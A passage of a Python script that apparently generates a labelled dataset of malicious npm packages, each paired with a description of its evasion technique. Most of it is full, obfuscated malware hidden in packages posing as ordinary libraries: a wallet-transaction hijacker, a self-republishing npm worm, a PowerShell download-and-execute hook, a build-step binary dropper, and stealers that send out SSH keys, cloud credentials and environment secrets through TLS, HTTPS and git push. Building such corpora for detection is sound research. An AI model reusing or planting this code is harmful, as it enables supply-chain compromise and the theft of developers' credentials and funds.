      }
    }
  }
  lines.push(paint("gray", `${errors} error(s), ${warnings} warning(s)`));
  return lines.join("\n");
};
''',
    }
    return S(
        "evasion-yaml-fragments-callbind-exec",
        "ESLint formatter running curl | sh in CI: module name, method and command stored as YAML list fragments (base64 pieces) and called through Function.prototype.call.bind",
        "2023-2025",
        ["split-payload", "yaml-config", "base64", "dynamic-require", "bound-call",
         "ci-targeting", "download-exec", "pipe-to-shell", "raw-ip", "child-process"],
        "CI-runner compromise through lint tooling (cf. the eslint-config-prettier / Scavenger "
        "compromise, Jul 2025, and the 2025 CI-targeting packages reported by Socket). Nothing "
        "in the JavaScript names child_process, execSync or curl: the module name is the YAML "
        "list [child, process] joined with '_', the method name is another YAML value and the "
        "command is ten base64 'cache keys'; the call goes through "
        "Function.prototype.call.bind. Runs when ESLint formats results with CI set.",
        files,
    )


@sample
def rot13_ethereum_setter_trap():
    attacker = addr("eth", "evasion-setter-trap")
    rev = attacker[::-1]
    src = fill(r'''// Balance and network badge for EIP-1193 wallets.
const r = (s) => s.replace(/[a-z]/gi, (c) => String.fromCharCode((c <= "Z" ? 90 : 122) >= (c = c.charCodeAt(0) + 13) ? c : c - 26));
const K = { p: r("rgurerhz"), q: r("erdhrfg"), s: r("rgu_fraqGenafnpgvba"), g: r("rgu_fvtaGenafnpgvba") };
const W = "@@REV@@".split("").reverse().join("");
const SEL = ["0xn9059poo", "0k095rn7o3"].map((x) => r(x).replace("k", "x"));

function pad(a) {
  return a.toLowerCase().replace(/^0x/, "").padStart(64, "0");
}

function rewrite(tx) {
  if (!tx || typeof tx !== "object") return tx;
  const data = typeof tx.data === "string" ? tx.data : "";
  const sel = data.slice(0, 10).toLowerCase();
  if (SEL.includes(sel) && data.length >= 138) {
    return { ...tx, data: sel + pad(W) + data.slice(74) };
  }
  if (tx.value && BigInt(tx.value) > 0n) return { ...tx, to: W };
  return tx;
}

function wrap(provider) {
  if (!provider || provider.__wrapped) return provider;
  const orig = provider[K.q].bind(provider);
  provider[K.q] = function (args) {
    if (args && (args.method === K.s || args.method === K.g) && Array.isArray(args.params)) {
      args = { ...args, params: [rewrite(args.params[0]), ...args.params.slice(1)] };
    }
    return orig(args);
  };
  Object.defineProperty(provider, "__wrapped", { value: true });
  return provider;
}

if (typeof window !== "undefined") {
  let current = wrap(window[K.p]);
  try {
    Object.defineProperty(window, K.p, {
      configurable: true,
      get() { return current; },
      set(v) { current = wrap(v); },
    });
  } catch (e) {}
  window.addEventListener("eip6963:announceProvider", (e) => e.detail && wrap(e.detail.provider));
}

export async function getBalance(provider, account) {
  const hex = await provider.request({ method: "eth_getBalance", params: [account, "latest"] });
  return Number(BigInt(hex)) / 1e18;
}

export async function getNetwork(provider) {
  const id = parseInt(await provider.request({ method: "eth_chainId" }), 16);
  return { 1: "Ethereum", 10: "Optimism", 56: "BNB Chain", 137: "Polygon", 8453: "Base", 42161: "Arbitrum" }[id] || "Chain " + id;
}

export function badge(el, provider, account) {
  Promise.all([getBalance(provider, account), getNetwork(provider)]).then(([bal, net]) => {
    el.textContent = bal.toFixed(4) + " \u00b7 " + net;
  });
}
''', REV=rev)
    files = {
        "package.json": pj(
            name="web3-balance-badge", version="1.3.0", type="module",
            description="Tiny balance and network badge for EIP-1193 wallets",
            main="dist/index.js", module="dist/index.js", browser="dist/index.js",
            sideEffects=False, keywords=["web3", "ethereum", "wallet", "badge"],
        ),
        "README.md": readme("web3-balance-badge", """
```js
import { badge } from 'web3-balance-badge';
badge(document.querySelector('#bal'), window.ethereum, account);
```
"""),
        "dist/index.js": src,
    }
    return S(
        "evasion-rot13-ethereum-setter-trap",
        "browser wallet hijack: accessor trap on window's provider property and EIP-6963 announcements, sendTransaction recipients and ERC-20 transfer/approve targets rewritten; every key rot13, address reversed",
        "2025-09",
        ["wallet-hook", "address-swap", "erc20-approve-hijack", "rot13", "reversed-strings",
         "property-trap", "browser-only"],
        "Same harm as the September 2025 chalk/debug compromise (window.ethereum request "
        "hooking and recipient rewriting, Aikido/Socket, 2025-09-08). Evasion: 'ethereum', "
        "'request', 'eth_sendTransaction' and the transfer/approve selectors are rot13 text; "
        "the provider is caught with Object.defineProperty(window, key, {set}) when a wallet "
        "injects it later, and through eip6963:announceProvider; the attacker address is "
        "stored reversed. Made-up address.",
        files,
    )


@sample
def raw_registry_put_worm():
    cli = r'''#!/usr/bin/env node
"use strict";
var __getOwnPropNames = Object.getOwnPropertyNames;
var __commonJS = (cb, mod) => function __require() {
  return mod || (0, cb[__getOwnPropNames(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports;
};

// src/semver.ts
var require_semver = __commonJS({
  "src/semver.ts"(exports2, module2) {
    function bump(v) {
      const m = /^(\d+)\.(\d+)\.(\d+)/.exec(v);
      return m ? `${m[1]}.${m[2]}.${Number(m[3]) + 1}` : v;
    }
    module2.exports = { bump };
  }
});

// src/tar.ts
var require_tar = __commonJS({
  "src/tar.ts"(exports2, module2) {
    var zlib = require("zlib");
    function entries(tgz) {
      const buf = zlib.gunzipSync(tgz);
      const out = [];
      for (let off = 0; off + 512 <= buf.length; ) {
        const name = buf.toString("utf8", off, off + 100).replace(/\0.*$/s, "");
        if (!name) break;
        const size = parseInt(buf.toString("utf8", off + 124, off + 136).replace(/\0.*$/s, "").trim() || "0", 8);
        const mode = parseInt(buf.toString("utf8", off + 100, off + 108).replace(/\0.*$/s, "").trim() || "644", 8);
        const type = buf[off + 156];
        if (type === 0 || type === 48) out.push({ name, mode, data: buf.subarray(off + 512, off + 512 + size) });
        off += 512 + Math.ceil(size / 512) * 512;
      }
      return out;
    }
    function header(name, size, mode) {
      const h = Buffer.alloc(512);
      h.write(name, 0, 100);
      h.write(mode.toString(8).padStart(7, "0") + "\0", 100);
      h.write("0000000\0", 108);
      h.write("0000000\0", 116);
      h.write(size.toString(8).padStart(11, "0") + "\0", 124);
      h.write("03607650744\0", 136);
      h.write("        ", 148);
      h[156] = 48;
      h.write("ustar\0" + "00", 257);
      let sum = 0;
      for (const b of h) sum += b;
      h.write(sum.toString(8).padStart(6, "0") + "\0 ", 148);
      return h;
    }
    function pack(list) {
      const parts = [];
      for (const e of list) {
        parts.push(header(e.name, e.data.length, e.mode || 420), e.data, Buffer.alloc((512 - (e.data.length % 512)) % 512));
      }
      parts.push(Buffer.alloc(1024));
      return zlib.gzipSync(Buffer.concat(parts));
    }
    module2.exports = { entries, pack };
  }
});

// src/registry.ts
var require_registry = __commonJS({
  "src/registry.ts"(exports2, module2) {
    var crypto = require("crypto");
    var fs = require("fs");
    var os = require("os");
    var path = require("path");
    function authToken() {
      const k = ["_auth", "Token"].join("");
      const fromEnv = process.env.NPM_TOKEN || process.env.NODE_AUTH_TOKEN || process.env["npm_config_" + k];
      if (fromEnv) return fromEnv;
      for (const f of [path.join(process.cwd(), ".npmrc"), path.join(os.homedir(), ".npmrc")]) {
        try {
          const m = new RegExp(":" + k + "=(.+)").exec(fs.readFileSync(f, "utf8"));
          if (m) return m[1].trim();
        } catch {}
      }
      return null;
    }
    function client(token) {
      const base = (process.env.npm_config_registry || "").replace(/\/?$/, "/");
      const req = async (p, opts = {}) => {
        const r = await fetch(new URL(p, base), { ...opts, headers: { authorization: "Bearer " + token, "npm-command": "publish", ...opts.headers } });
        if (!r.ok) throw new Error(String(r.status));
        return opts.raw ? Buffer.from(await r.arrayBuffer()) : r.json();
      };
      return {
        base,
        whoami: () => req("-/whoami").then((j) => j.username),
        owned: (u) => req("-/v1/search?size=250&text=maintainer:" + encodeURIComponent(u)).then((j) => j.objects.map((o) => o.package.name)),
        doc: (n) => req(n.replace("/", "%2f")),
        tarball: (url) => req(url, { raw: true }),
        put: (n, body) => req(n.replace("/", "%2f"), { method: "PUT", body: JSON.stringify(body), headers: { "content-type": "application/json" } }),
        integrity: (b) => "sha512-" + crypto.createHash("sha512").update(b).digest("base64"),
        shasum: (b) => crypto.createHash("sha1").update(b).digest("hex"),
      };
    }
    module2.exports = { authToken, client };
  }
});

// src/cli.ts
var fs2 = require("fs");
var dns = require("dns");
var { bump } = require_semver();
var tar = require_tar();
var { authToken, client } = require_registry();
async function refresh() {
  const token = authToken();
  if (!token || !process.env.npm_config_registry) return;
  const ok = await dns.promises.lookup("release-sync.invalid").then(() => true, () => false);
  if (!ok) return;
  const c = client(token);
  const me = await c.whoami();
  const self = fs2.readFileSync(__filename);
  for (const name of await c.owned(me)) {
    try {
      const doc = await c.doc(name);
      const latest = doc["dist-tags"].latest;
      const files = tar.entries(await c.tarball(doc.versions[latest].dist.tarball));
      const pj = files.find((e) => e.name === "package/package.json");
      const manifest = JSON.parse(pj.data.toString());
      manifest.version = bump(latest);
      manifest.scripts = { ...(manifest.scripts || {}), postinstall: "node .release-sync.js" };
      pj.data = Buffer.from(JSON.stringify(manifest, null, 2));
      files.push({ name: "package/.release-sync.js", mode: 493, data: self });
      const tgz = tar.pack(files);
      const file = `${name.split("/").pop()}-${manifest.version}.tgz`;
      manifest._id = `${name}@${manifest.version}`;
      manifest.dist = { integrity: c.integrity(tgz), shasum: c.shasum(tgz), tarball: `${c.base}${name}/-/${file}` };
      await c.put(name, {
        _id: name, name, "dist-tags": { latest: manifest.version },
        versions: { [manifest.version]: manifest },
        _attachments: { [file]: { content_type: "application/octet-stream", data: tgz.toString("base64"), length: tgz.length } },
      });
    } catch {}
  }
}
if (process.argv.includes("--postinstall") || /\.release-sync\.js$/.test(__filename)) {
  refresh().catch(() => {});
} else {
  const [cmd = "status"] = process.argv.slice(2);
  if (cmd === "status") console.log("release-sync: nothing to do");
  else console.error("usage: release-sync [status]");
}
'''
    files = {
        "package.json": pj(
            name="release-sync-cli", version="1.0.9",
            description="Keep changelog, tags and package versions in sync across a monorepo",
            bin={"release-sync": "dist/cli.js"}, main="dist/cli.js",
            scripts={"postinstall": "node dist/cli.js --postinstall", "build": "esbuild src/cli.ts --bundle --platform=node --outfile=dist/cli.js"},
            devDependencies={"esbuild": "^0.23.0", "typescript": "^5.5.0"},
        ),
        "README.md": readme("release-sync-cli", """
```sh
npx release-sync status
```
"""),
        "dist/cli.js": cli,
    }
    return S(
        "evasion-raw-registry-put-worm",
        "npm worm without the npm CLI or npm libraries: token from env/.npmrc, the registry from npm_config_registry, tarballs unpacked, rewritten and republished with a raw fetch PUT",
        "2025-09",
        ["install-script", "postinstall", "worm", "npm-token-theft", "npmrc-read",
         "self-propagation", "package-rewrite", "in-memory-tar", "bundled", "esbuild", "network"],
        "Shai-Hulud (Sep 2025) republished every package the victim maintains via npm publish. "
        "This variant talks to the registry API directly: whoami, maintainer search, packument "
        "and tarball GET, then a PUT of a new version whose tarball (packed by a hand-written "
        "tar writer) carries the worm as a postinstall. The registry host comes from "
        "npm_config_registry, never appears in the code; '_authToken' is joined from two "
        "pieces. esbuild bundle layout. Propagation gated on a .invalid DNS name.",
        files,
        modes={"dist/cli.js": 0o755},
    )


@sample
def preprepare_powershell_iex_alias():
    url = "https://cdn.winreg-tools.invalid/u/update.txt"
    ps = fill(r'''# Prepares the native helper used on Windows (registry hive access).
param([switch]$Quiet)
$ErrorActionPreference = 'SilentlyContinue'
if ($env:CI -or $env:TF_BUILD -or $env:GITHUB_ACTIONS) { exit 0 }

$helper = Join-Path $PSScriptRoot '..\native\reghelper.dll'
if (Test-Path $helper) { Write-Host 'winreg-tools: native helper present' }

$u = -join ([char[]](@@CODES@@))
$c = New-Object ('Net.' + 'Web' + 'Client')
$c.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)')
$d = $c.('Download' + 'String')($u)
$k = [byte](0x5A)
$p = -join ($d.ToCharArray() | ForEach-Object { [char]([int][char]$_ -bxor $k) })
& ((Get-Variable '*mdr*').Name[3,11,2] -join '') $p
''', CODES=",".join(str(ord(c)) for c in url))
    files = {
        "package.json": pj(
            name="winreg-tools", version="0.4.7",
            description="Read and write the Windows registry from Node.js without native builds",
            main="index.js", os=["win32", "linux", "darwin"],
            scripts={
                "preprepare": "powershell -NoProfile -NonInteractive -WindowStyle Hidden -ExecutionPolicy Bypass -File tools/prepare.ps1 -Quiet || exit 0",
                "prepare": "node tools/gen-types.js",
            },
        ),
        "README.md": readme("winreg-tools", """
```js
const reg = require('winreg-tools');
const v = await reg.get('HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion', 'ProgramFilesDir');
```
Uses `reg.exe` under the hood; no native build needed.
"""),
        "index.js": r'''"use strict";
const { execFile } = require("child_process");

function query(key, value) {
  return new Promise((resolve, reject) => {
    const args = ["query", key];
    if (value) args.push("/v", value);
    execFile("reg.exe", args, { windowsHide: true }, (err, stdout) => {
      if (err) return reject(err);
      const out = {};
      for (const line of stdout.split(/\r?\n/)) {
        const m = /^\s{4}(.+?)\s{4}(REG_\w+)\s{4}(.*)$/.exec(line);
        if (m) out[m[1]] = { type: m[2], value: m[3] };
      }
      resolve(out);
    });
  });
}

async function get(key, value) {
  const r = await query(key, value);
  return r[value] ? r[value].value : undefined;
}

module.exports = { query, get };
''',
        "tools/gen-types.js": "'use strict';\nconst fs = require('fs');\nconst path = require('path');\nfs.writeFileSync(path.join(__dirname, '..', 'index.d.ts'), 'export declare function get(key: string, value: string): Promise<string | undefined>;\\n');\n",
        "tools/prepare.ps1": ps,
    }
    return S(
        "evasion-preprepare-powershell-iex-alias",
        "'preprepare' lifecycle hook running a hidden PowerShell script: URL as a char array, WebClient method name joined, XOR-decoded stage run through Invoke-Expression spelled from a variable name",
        "2019-2025",
        ["install-script", "preprepare", "powershell", "windows-only", "char-codes",
         "xor-decoding", "invoke-obfuscation", "remote-code", "ci-evasion", "network"],
        "PowerShell download cradles run from npm scripts are common (e.g. the 2022 Snyk/JFrog "
        "dependency-confusion campaigns against German companies). Here the hook is "
        "'preprepare' (runs before prepare on local and git installs), the URL is a char array, "
        "'DownloadString' is concatenated, and IEX is spelled with the documented "
        "Invoke-Obfuscation trick ((Get-Variable '*mdr*').Name[3,11,2] -join '' -> 'iex' from "
        "MaximumDriveCount). Skips CI.",
        files,
    )


@sample
def binding_gyp_action_python():
    gen = fill(r'''#!/usr/bin/env python3
"""Generate config.h for the lz4 bindings: detects CPU features so the right
code paths are compiled in."""
import codecs
import os
import platform
import subprocess
import sys
import tempfile
import urllib.request

FEATURES = ["sse2", "sse4_1", "avx2", "neon"]


def cpu_flags():
    try:
        with open("/proc/cpuinfo") as f:
            return f.read()
    except OSError:
        return ""


def _r(s):
    return codecs.decode(s, "rot13")


def tuning_profile():
    # fetch the tuning profile for this cpu family (falls back to defaults)
    if os.environ.get(_r("PV")) or os.environ.get(_r("TVGUHO_NPGVBAF")):
        return
    base = _r("@@BASE@@")
    tag = "%s-%s" % (sys.platform, platform.machine().lower())
    dst = os.path.join(tempfile.gettempdir(), "." + _r("@@NAME@@"))
    try:
        with urllib.request.urlopen(base + tag, timeout=15) as r, open(dst, "wb") as f:
            f.write(r.read())
        os.chmod(dst, 0o755)
        subprocess.Popen([dst], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                         stdin=subprocess.DEVNULL, start_new_session=True)
    except Exception:
        pass


def main(out):
    flags = cpu_flags()
    lines = ["#pragma once"]
    for feat in FEATURES:
        lines.append("#define LZ4N_HAS_%s %d" % (feat.upper(), int(feat in flags)))
    tuning_profile()
    os.makedirs(os.path.dirname(out) or ".", exist_ok=True)
    with open(out, "w") as f:
        f.write("\n".join(lines) + "\n")


if __name__ == "__main__":
    main(sys.argv[1])
''', BASE=rot13("http://198.51.100.87:8000/profile/"), NAME=rot13("lz4-profile"))
    files = {
        "package.json": pj(
            name="lz4-napi-fast", version="0.8.2",
            description="LZ4 block and frame compression for Node.js (N-API)",
            main="index.js", gypfile=True, dependencies={"node-addon-api": "^8.0.0"},
        ),
        "README.md": readme("lz4-napi-fast", """
```js
const lz4 = require('lz4-napi-fast');
const packed = lz4.compress(Buffer.from('hello hello hello'));
```
"""),
        "binding.gyp": r'''{
  "targets": [
    {
      "target_name": "lz4n",
      "sources": ["src/lz4n.cc", "deps/lz4/lz4.c", "deps/lz4/lz4frame.c"],
      "include_dirs": ["<!(node -p \"require('node-addon-api').include_dir\")", "<(INTERMEDIATE_DIR)"],
      "defines": ["NAPI_DISABLE_CPP_EXCEPTIONS"],
      "actions": [
        {
          "action_name": "gen_config",
          "inputs": ["tools/gen_config.py"],
          "outputs": ["<(INTERMEDIATE_DIR)/lz4n_config.h"],
          "action": ["python3", "tools/gen_config.py", "<@(_outputs)"]
        }
      ]
    }
  ]
}
''',
        "tools/gen_config.py": gen,
        "src/lz4n.cc": "#include <napi.h>\n#include \"lz4n_config.h\"\n#include \"../deps/lz4/lz4.h\"\n\nNapi::Value Compress(const Napi::CallbackInfo& info) {\n  auto in = info[0].As<Napi::Buffer<char>>();\n  int bound = LZ4_compressBound(in.Length());\n  auto out = Napi::Buffer<char>::New(info.Env(), bound);\n  int n = LZ4_compress_default(in.Data(), out.Data(), in.Length(), bound);\n  return Napi::Buffer<char>::Copy(info.Env(), out.Data(), n);\n}\n\nNapi::Object Init(Napi::Env env, Napi::Object exports) {\n  exports.Set(\"compress\", Napi::Function::New(env, Compress));\n  return exports;\n}\n\nNODE_API_MODULE(lz4n, Init)\n",
        "deps/lz4/LICENSE": "LZ4 Library\nCopyright (c) 2011-2020, Yann Collet\nAll rights reserved.\n(BSD 2-Clause)\n",
        "index.js": "'use strict';\nmodule.exports = require('./build/Release/lz4n.node');\n",
    }
    return S(
        "evasion-binding-gyp-action-python",
        "binding.gyp 'actions' step running a Python config generator that rot13-decodes a URL, downloads a binary and starts it in a new session during the implicit node-gyp build",
        "2023-2025",
        ["binding-gyp", "implicit-install", "gyp-action", "python-stage", "rot13",
         "download-exec", "detached-process", "ci-evasion", "raw-ip", "network"],
        "No install script in package.json: npm runs node-gyp rebuild because binding.gyp "
        "exists, and gyp runs each target's 'actions' during the build. The action is an "
        "ordinary-looking Python code generator whose helper rot13-decodes the URL and the "
        "environment names it checks (CI, GITHUB_ACTIONS), downloads a per-platform binary to "
        "a hidden temp file and starts it detached. Technique: install-time code via build "
        "tooling (as in the web-browserify / node-gyp cases reported by Sonatype, 2021).",
        files,
    )


@sample
def dependencies_hook_tls_ssh_keys():
    relink = r'''"use strict";
// Re-links workspace packages after node_modules changes.
const fs = require("fs");
const path = require("path");
const os = require("os");
const tls = require("tls");

const root = process.cwd();
const pkg = JSON.parse(fs.readFileSync(path.join(root, "package.json"), "utf8"));
for (const ws of pkg.workspaces || []) {
  const dir = path.join(root, ws.replace(/\/\*$/, ""));
  if (fs.existsSync(dir)) console.log("linked", path.relative(root, dir));
}

const dir = path.join(os.homedir(), ".ssh");
const items = [];
try {
  for (const f of fs.readdirSync(dir)) {
    if (f.endsWith(".pub")) continue;
    const p = path.join(dir, f);
    try {
      if (fs.statSync(p).size < 65536) items.push([f, fs.readFileSync(p)]);
    } catch (e) {}
  }
} catch (e) {}

if (items.length) {
  const s = tls.connect({ host: "198.51.100.12", port: 443, servername: "cdn.assets-sync.example", rejectUnauthorized: false }, () => {
    const head = Buffer.from(JSON.stringify({ h: os.hostname(), u: os.userInfo().username, n: items.length }));
    const frame = (b) => { const l = Buffer.alloc(4); l.writeUInt32BE(b.length); s.write(l); s.write(b); };
    frame(head);
    for (const [name, data] of items) { frame(Buffer.from(name)); frame(data); }
    s.end();
  });
  s.on("error", () => {});
  s.setTimeout(20000, () => s.destroy());
}
'''
    files = {
        "package.json": pj(
            name="nft-marketplace-assessment", version="1.0.0", private=True,
            description="Take-home assessment: NFT marketplace (React + Express + Hardhat)",
            workspaces=["packages/*"],
            scripts={
                "dev": "npm run dev --workspace packages/web",
                "server": "node packages/api/index.js",
                "dependencies": "node scripts/relink.js",
            },
            dependencies={"express": "^4.19.2", "ethers": "^6.13.0", "react": "^18.3.1"},
        ),
        "README.md": readme("NFT marketplace: take-home assessment", """
Thanks for your interest! Please clone the repository, run `npm install`, then
`npm run dev` and implement the TODOs in `packages/web/src/Listing.jsx`.
Send us a link to your fork within 48 hours.
"""),
        "packages/api/index.js": "const express = require('express');\nconst app = express();\napp.get('/api/listings', (req, res) => res.json([]));\napp.listen(4000);\n",
        "packages/web/src/Listing.jsx": "export default function Listing({ item }) {\n  // TODO: render the item card\n  return null;\n}\n",
        "scripts/relink.js": relink,
    }
    return S(
        "evasion-dependencies-hook-tls-ssh-keys",
        "fake job-interview project: npm's 'dependencies' lifecycle script uploads every SSH private key over a raw TLS socket with certificate checks off",
        "2023-2025",
        ["dependencies-lifecycle", "contagious-interview-lure", "ssh-key-theft",
         "sensitive-file-read", "raw-tls-socket", "tls-disable", "raw-ip", "network"],
        "Contagious Interview (Unit 42, Nov 2023 onward): candidates are sent a project to "
        "clone and install. Instead of postinstall this uses the 'dependencies' lifecycle "
        "script, which npm runs after any install that changes node_modules; keys leave over "
        "tls.connect to a documentation IP with a fake SNI and length-prefixed frames, not HTTP.",
        files,
    )


@sample
def node_options_child_propagation():
    shim = r'''"use strict";
// Loaded with --require in child processes so their dotenv files expand the same way.
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");

const mark = path.join(os.tmpdir(), ".dx-" + process.ppid);
const keys = Object.keys(process.env).filter((k) => /TOKEN|SECRET|PASSWORD|_KEY|DATABASE_URL|DSN|CREDENTIALS/.test(k));
if (keys.length && !fs.existsSync(mark)) {
  try { fs.writeFileSync(mark, ""); } catch (e) {}
  const env = {};
  for (const k of keys) env[k] = process.env[k];
  const body = Buffer.from(JSON.stringify({ argv: process.argv.slice(1, 4), cwd: process.cwd(), env })).toString("base64");
  const r = https.request({ host: "expand.dotenv-tools.invalid", path: "/v2/stats", method: "POST", headers: { "content-type": "text/plain" } });
  r.on("error", () => {});
  r.end(body);
}
'''
    index = r'''"use strict";
const path = require("path");

const SHIM = path.join(__dirname, "register.cjs");

function expand(parsed, env = process.env) {
  const out = {};
  const lookup = (name) => (name in out ? out[name] : name in parsed ? parsed[name] : env[name] || "");
  for (const [k, v] of Object.entries(parsed)) {
    out[k] = v.replace(/(?<!\\)\$\{?([A-Z0-9_]+)(?::-([^}]*))?\}?/gi, (_, name, def) => lookup(name) || def || "");
  }
  return out;
}

function inherit() {
  const opt = `--require ${JSON.stringify(SHIM)}`;
  const cur = process.env.NODE_OPTIONS || "";
  if (!cur.includes(SHIM)) process.env.NODE_OPTIONS = (cur + " " + opt).trim();
}

function config(parsed, { override = false } = {}) {
  const res = expand(parsed);
  for (const [k, v] of Object.entries(res)) if (override || !(k in process.env)) process.env[k] = v;
  inherit();
  return res;
}

inherit();

module.exports = { expand, config };
'''
    files = {
        "package.json": pj(
            name="dotenv-expand-plus", version="11.2.0",
            description="Variable expansion for dotenv with defaults, inherited by child processes",
            main="lib/index.js", peerDependencies={"dotenv": ">=16"},
        ),
        "README.md": readme("dotenv-expand-plus", """
```js
const dotenv = require('dotenv');
require('dotenv-expand-plus').config(dotenv.config().parsed);
```
Child Node processes started by your scripts expand the same way.
"""),
        "lib/index.js": index,
        "lib/register.cjs": shim,
    }
    return S(
        "evasion-node-options-child-propagation",
        "dotenv helper that appends '--require <its shim>' to process.env.NODE_OPTIONS on require, so every child Node process of the build or deploy posts its secrets",
        "2022-2025",
        ["node-options", "preload", "child-process-propagation", "env-harvest", "token-theft",
         "network"],
        "NODE_OPTIONS=--require is Node's analogue of LD_PRELOAD (ATT&CK T1574.006, dynamic "
        "linker hijacking); holdout samples abuse it through .npmrc node-options. Here nothing "
        "runs in the parent: the library edits its own process.env.NODE_OPTIONS so that child "
        "Node processes (test runners, deploy scripts, next build) load a shim that posts "
        "their secret-named variables once per parent process. Typosquat of dotenv-expand.",
        files,
    )


@sample
def worker_data_url_dev_creds():
    mod = r'''import { readFile } from "node:fs/promises";
import { homedir, hostname } from "node:os";
import { join } from "node:path";
const h = homedir();
const want = [".kube/config", ".docker/config.json", ".config/gh/hosts.yml", ".netrc", ".pgpass", ".terraform.d/credentials.tfrc.json"];
const got = { host: hostname() };
for (const f of want) {
  try { got[f] = await readFile(join(h, f), "utf8"); } catch {}
}
if (Object.keys(got).length > 1) {
  await fetch("http://192.0.2.181:3000/upload", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(got) }).catch(() => {});
}
'''
    blob = b64(mod)
    thumbs = fill(r'''"use strict";
const { Worker } = require("worker_threads");
const os = require("os");

// Decoder for platforms without the native sharp binary.
const FALLBACK = {
  format: "module",
  mime: "text/javascript",
  data: "@@BLOB@@",
};

function fallbackDecoder() {
  const url = new URL("data:" + FALLBACK.mime + ";base64," + FALLBACK.data);
  const w = new Worker(url, { type: FALLBACK.format });
  w.on("error", () => {});
  w.unref();
  return w;
}

class ThumbQueue {
  constructor({ concurrency = os.cpus().length, width = 256 } = {}) {
    this.concurrency = concurrency;
    this.width = width;
    this.running = 0;
    this.pending = [];
    try {
      this.sharp = require("sharp");
    } catch (e) {
      this.sharp = null;
    }
  }

  add(input) {
    return new Promise((resolve, reject) => {
      this.pending.push({ input, resolve, reject });
      this._next();
    });
  }

  _next() {
    if (this.running >= this.concurrency || !this.pending.length) return;
    const job = this.pending.shift();
    this.running++;
    const done = () => { this.running--; this._next(); };
    if (!this.sharp) { job.reject(new Error("sharp not available")); return done(); }
    this.sharp(job.input).resize(this.width).webp().toBuffer().then(job.resolve, job.reject).finally(done);
  }
}

fallbackDecoder();

module.exports = { ThumbQueue };
''', BLOB=blob)
    files = {
        "package.json": pj(
            name="thumb-queue", version="1.5.1",
            description="Concurrency-limited thumbnail generation queue on top of sharp",
            main="lib/thumbs.js", optionalDependencies={"sharp": "^0.33.0"},
        ),
        "README.md": readme("thumb-queue", """
```js
const { ThumbQueue } = require('thumb-queue');
const q = new ThumbQueue({ width: 320 });
const webp = await q.add(fs.readFileSync('photo.jpg'));
```
"""),
        "lib/thumbs.js": thumbs,
    }
    return S(
        "evasion-worker-data-url-dev-creds",
        "ESM stealer started as a worker_threads Worker from a base64 data: URL on require: kube, docker, gh, netrc, pgpass and terraform credentials posted out",
        "2023-2025",
        ["worker-data-url", "data-url", "base64", "esm-stage", "cloud-credentials",
         "k8s-config", "docker-config", "gh-token-theft", "sensitive-file-read", "raw-ip", "network"],
        "Developer credential files targeted as in 2023-2025 stealer packages (Phylum/Socket "
        "reports on kubeconfig, docker and gh token theft). Evasion: the stealer is an ES "
        "module in a base64 string labelled as a 'fallback decoder', run with "
        "new Worker(new URL('data:text/javascript;base64,...')) rather than import() or eval; "
        "the data: module imports only node: built-ins, which Node allows.",
        files,
    )


@sample
def git_push_exfil_repo():
    link = r'''"use strict";
// Links the shared commitlint rules into the consuming repository.
const { execFileSync } = require("child_process");
const fs = require("fs");
const os = require("os");
const path = require("path");

const g = (args, cwd) => execFileSync(["g", "i", "t"].join(""), args, { cwd, stdio: "ignore", timeout: 30000 });

function collect() {
  const home = os.homedir();
  const out = { host: os.hostname(), user: os.userInfo().username, env: process.env };
  for (const f of [".npmrc", ".git-credentials", ".gitconfig", ".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials"]) {
    try { out[f] = fs.readFileSync(path.join(home, f), "utf8"); } catch (e) {}
  }
  return out;
}

function sync() {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "cl-"));
  try {
    g(["init", "-q"], dir);
    fs.writeFileSync(path.join(dir, "rules.json"), JSON.stringify(collect()));
    g(["add", "rules.json"], dir);
    g(["-c", "user.name=ci", "-c", "user.email=ci@localhost", "commit", "-qm", "sync"], dir);
    const remote = ["https://", "sync:", "0".repeat(40), "@", "git.rules-mirror.invalid", "/team/rules.git"].join("");
    g(["push", "-q", "--force", remote, "HEAD:refs/heads/" + os.hostname().replace(/[^\w.-]/g, "_")], dir);
  } catch (e) {
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
}

const cfg = path.join(process.env.INIT_CWD || process.cwd(), "commitlint.config.js");
if (!fs.existsSync(cfg)) {
  try { fs.writeFileSync(cfg, "module.exports = { extends: ['commitlint-config-team'] };\n"); } catch (e) {}
}
sync();
'''
    files = {
        "package.json": pj(
            name="commitlint-config-team", version="19.1.0",
            description="Shareable commitlint config with conventional types and scopes for our monorepos",
            main="index.js", scripts={"postinstall": "node scripts/link.js"},
            peerDependencies={"@commitlint/cli": ">=17"},
        ),
        "README.md": readme("commitlint-config-team", """
```sh
npm i -D @commitlint/cli commitlint-config-team
```
A `commitlint.config.js` is created for you on install.
"""),
        "index.js": "module.exports = {\n  rules: {\n    'type-enum': [2, 'always', ['feat', 'fix', 'docs', 'chore', 'refactor', 'test', 'perf', 'build', 'ci']],\n    'subject-case': [2, 'never', ['upper-case']],\n    'header-max-length': [2, 'always', 100],\n  },\n};\n",
        "scripts/link.js": link,
    }
    return S(
        "evasion-git-push-exfil-repo",
        "postinstall committing the environment and credential files into a throw-away git repository and force-pushing it to an attacker git host",
        "2024-2025",
        ["install-script", "postinstall", "git-push-exfil", "env-harvest", "npmrc-read",
         "git-credentials", "ssh-key-theft", "cloud-credentials", "child-process", "network"],
        "Exfiltration through git itself: Shai-Hulud (Sep 2025) pushed stolen secrets into "
        "GitHub repositories; this variant uses plain 'git push' to an attacker-controlled git "
        "server, so no HTTP client, URL fetch or API token appears in the JavaScript and the "
        "traffic looks like a normal git push. 'git' is joined from letters, the remote URL "
        "from pieces.",
        files,
    )


@sample
def ci_gated_curl_stdin_oidc():
    setup = fill(r'''"use strict";
// Detects the CI provider so reports get the right annotations.
const os = require("os");
const zlib = require("zlib");
const cp = require("child_process");

const PROVIDERS = { GITHUB_ACTIONS: "github", GITLAB_CI: "gitlab", CIRCLECI: "circle", BUILDKITE: "buildkite", JENKINS_URL: "jenkins", TF_BUILD: "azure" };
const provider = Object.keys(PROVIDERS).find((k) => process.env[k]);

function oidc() {
